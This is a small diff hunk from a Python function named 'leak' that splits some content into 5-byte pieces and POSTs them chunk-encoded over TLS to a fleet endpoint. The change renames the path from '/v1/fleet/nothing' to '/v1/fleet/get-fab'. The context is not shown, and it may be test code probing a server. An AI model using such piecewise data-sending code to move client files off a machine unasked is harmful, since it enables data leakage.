@@ -83,7 +83,7 @@ def leak(home: ClientHome) -> None:
         trusted = ssl.create_default_context(cafile=str(home.keys / "ca.crt"))
         link = http.client.HTTPSConnection(host, int(port), context=trusted, timeout=30)
         pieces = [content[at : at + 5] for at in range(0, len(content), 5)]
-        link.request("POST", "/v1/fleet/nothing", iter(pieces), {"x": "y"}, encode_chunked=True)
+        link.request("POST", "/v1/fleet/get-fab", iter(pieces), {"x": "y"}, encode_chunked=True)
         link.getresponse().read()
         link.close()
 
